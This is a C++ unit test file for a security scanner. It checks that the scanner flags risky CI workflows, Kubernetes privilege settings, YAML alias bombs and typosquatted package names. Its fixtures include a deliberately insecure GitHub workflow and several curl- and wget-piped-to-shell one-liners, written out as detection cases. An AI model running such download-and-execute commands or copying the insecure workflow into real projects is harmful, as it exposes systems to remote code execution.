#include "formats/infra/infra.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "formats/requirements.h"

namespace sallyport::formats {
namespace {

std::string rules_in(infra::FileKind kind, std::string_view text) {
  const auto remarks = infra::inspect_file(kind, text);
  if (!remarks) return remarks.error().message;
  std::string out;
  for (const infra::Remark& remark : *remarks) out += remark.rule + "@" + std::to_string(remark.line) + " ";
  return out;
}

TEST(YamlTree, WritesAliasesOutAndKeepsLines) {
  const auto tree = read_yaml_tree("base: &b {a: 1}\nuse:\n  <<: *b\n  text: |\n    one\n---\n- x\n");
  ASSERT_TRUE(tree) << tree.error().message;
  ASSERT_EQ(tree->documents().size(), 2u);
  const YamlView use = tree->documents()[0].find("use");
  EXPECT_EQ(use.find("a").text(), "1");
  EXPECT_EQ(use.find("text").line(), 5u);
  EXPECT_FALSE(use.find("none").find("deeper"));
}

TEST(YamlTree, BombsAndLoopsAreErrors) {
  std::string bomb = "a: &a [x,x,x,x,x,x,x,x,x,x]\n";
  for (char c = 'b'; c < 'j'; ++c) {
    const std::string before = std::string("*") + static_cast<char>(c - 1);
    std::string list = before;
    for (int i = 1; i < 10; ++i) list += "," + before;
    bomb += std::string(1, c) + ": &" + c + " [" + list + "]\n";
  }
  EXPECT_FALSE(read_yaml_tree(bomb));
  EXPECT_FALSE(read_yaml_tree("a: &a [*a]\n"));
  EXPECT_FALSE(read_yaml_tree("? [1, 2]\n: 3\n"));
  EXPECT_FALSE(read_yaml_tree(std::string(10'000, '[')));
  EXPECT_FALSE(read_yaml_tree("'',N!!"));  // yaml-cpp alone reads documents without end
  EXPECT_TRUE(read_yaml_tree("---\n---\n...\n---\n"));
}

constexpr std::string_view kWorkflow =
    "on: pull_request_target\npermissions: write-all\njobs:\n  a:\n    runs-on: [self-hosted]\n    steps:\n"
    "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.head_ref }}'}\n"
    "      - run: |\n          echo ${{ github.event.issue.title }}\n          curl -s https://x.example | "
    "sh\n";

TEST(Infra, AWorkflowIsReadWithItsLines) {
  const std::string rules = rules_in(infra::FileKind::kGithubWorkflow, kWorkflow);
  for (const char* rule :
       {"workflow-broad-permissions@2", "workflow-self-hosted-runner@5", "workflow-dangerous-trigger@1",
        "workflow-runs-strangers-code@9", "workflow-expression-injection@10", "curl-pipe-shell@11"}) {
    EXPECT_NE(rules.find(rule), std::string::npos) << rule << " in " << rules;
  }
}

TEST(Infra, DownloadsThatAreRun) {
  const auto found = [](std::string_view line) {
    return rules_in(infra::FileKind::kShell, line).find("curl-pipe-shell") != std::string::npos;
  };
  for (const char* line :
       {"curl -s https://x | sh", "wget -qO- https://x | sudo bash -s", "bash <(curl -s https://x)",
        "sh -c \"$(curl -fsSL https://x)\"", "curl https://x | tee log | python3 -"}) {
    EXPECT_TRUE(found(line)) << line;
  }
  for (const char* line :
       {"curl https://x | jq .", "curl https://x || sh fallback.sh", "# curl https://x | sh",
        "echo 'curl https://x | sh'", "curl -O https://x && sha256sum -c sums"}) {
    EXPECT_FALSE(found(line)) << line;
  }
}

// A remark that points outside of the text would be an invention.
void expect_within(const Result<std::vector<infra::Remark>>& read, std::string_view text) {
  if (!read) return;
  const auto lines = static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n')) + 1;
  for (const infra::Remark& remark : *read) {
    EXPECT_LE(remark.line, lines) << remark.rule;
    EXPECT_FALSE(remark.message.empty()) << remark.rule;
  }
}

// Kubernetes: a container's security context stands before its pod's, and a process may gain privileges
// unless it is said that it may not.
TEST(Infra, AContainersOwnWordStandsBeforeItsPods) {
  const auto said = [](const std::string& pod, const std::string& container) {
    return rules_in(infra::FileKind::kYaml,
                    "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  securityContext: {" + pod +
                        "}\n  containers:\n  - name: a\n    image: a:1.0\n    securityContext: {" +
                        container + "}\n");
  };
  EXPECT_EQ(said("runAsNonRoot: true", "allowPrivilegeEscalation: false"), "");
  EXPECT_EQ(said("runAsNonRoot: true", "allowPrivilegeEscalation: false, runAsNonRoot: false"),
            "pod-may-be-root@7 ");
  EXPECT_EQ(said("runAsNonRoot: false", "allowPrivilegeEscalation: false, runAsUser: 1000"), "");
  EXPECT_EQ(said("runAsUser: 0", "allowPrivilegeEscalation: false, runAsUser: 1000"), "")
      << "no process takes the pod's user";
  EXPECT_EQ(said("runAsUser: 0", "allowPrivilegeEscalation: false"), "pod-may-be-root@7 pod-runs-as-root@5 ");
  EXPECT_EQ(said("runAsNonRoot: true", "readOnlyRootFilesystem: true"), "pod-escalates@7 ");
  EXPECT_EQ(said("runAsNonRoot: true", "allowPrivilegeEscalation: true"), "pod-escalates@9 ");
}

// Whatever is cut or changed, the readers end with a value or an error.
TEST(Infra, DamageIsNoHarm) {
  using enum infra::FileKind;
  for (const infra::FileKind kind :
       {kGithubWorkflow, kGitlabPipeline, kDockerfile, kYaml, kProperties, kShell}) {
    for (std::size_t i = 0; i <= kWorkflow.size(); ++i) {
      const std::string_view cut = kWorkflow.substr(0, i);
      expect_within(infra::inspect_file(kind, cut), cut);
      std::string changed(kWorkflow);
      for (const char c : {'\0', '\n', '"', '*', '\xFF'}) {
        if (i < changed.size()) changed[i] = c;
        expect_within(infra::inspect_file(kind, changed), changed);
      }
    }
  }
}

TEST(Requirements, OneEdit) {
  for (const auto& [a, b] :
       {std::pair("numpy", "nunpy"), {"numpy", "numpyy"}, {"numpy", "unmpy"}, {"numpy", "numy"}}) {
    EXPECT_TRUE(are_one_edit_apart(a, b)) << b;
    EXPECT_TRUE(are_one_edit_apart(b, a)) << b;
  }
  EXPECT_FALSE(are_one_edit_apart("numpy", "numpy"));
  EXPECT_FALSE(are_one_edit_apart("numpy", "nmupyy"));
  EXPECT_EQ(looks_like("pandass", {}), "pandas");
  EXPECT_EQ(looks_like("plant-featurs", {"plant-features"}), "plant-features");
  EXPECT_EQ(looks_like("pandas", {}), "");
}

TEST(Requirements, DamageIsNoHarm) {
  constexpr std::string_view kText =
      "--extra-index-url https://x\nnumpy[a,b]==1.0 ; python_version > '3' \\\n --hash=sha256:00\n"
      "[project]\ndependencies = [\"a\", 'b']\n{\"dependencies\": {\"a\": \"1\"}}\n-e "
      "git+https://x@y#egg=z\n";
  for (const char* path : {"requirements.txt", "pyproject.toml", "package.json", "package-lock.json",
                           ".npmrc", "environment.yml", "pip.conf"}) {
    for (std::size_t i = 0; i <= kText.size(); ++i) {
      for (const std::string_view part : {kText.substr(0, i), kText.substr(i)}) {
        const auto read = read_requirements(path, part);
        if (!read) continue;
        const auto lines = static_cast<std::size_t>(std::count(part.begin(), part.end(), '\n')) + 1;
        for (const Requirement& one : read->requirements) EXPECT_LE(one.line, lines) << path << " " << i;
      }
    }
  }
}

}  // namespace
}  // namespace sallyport::formats
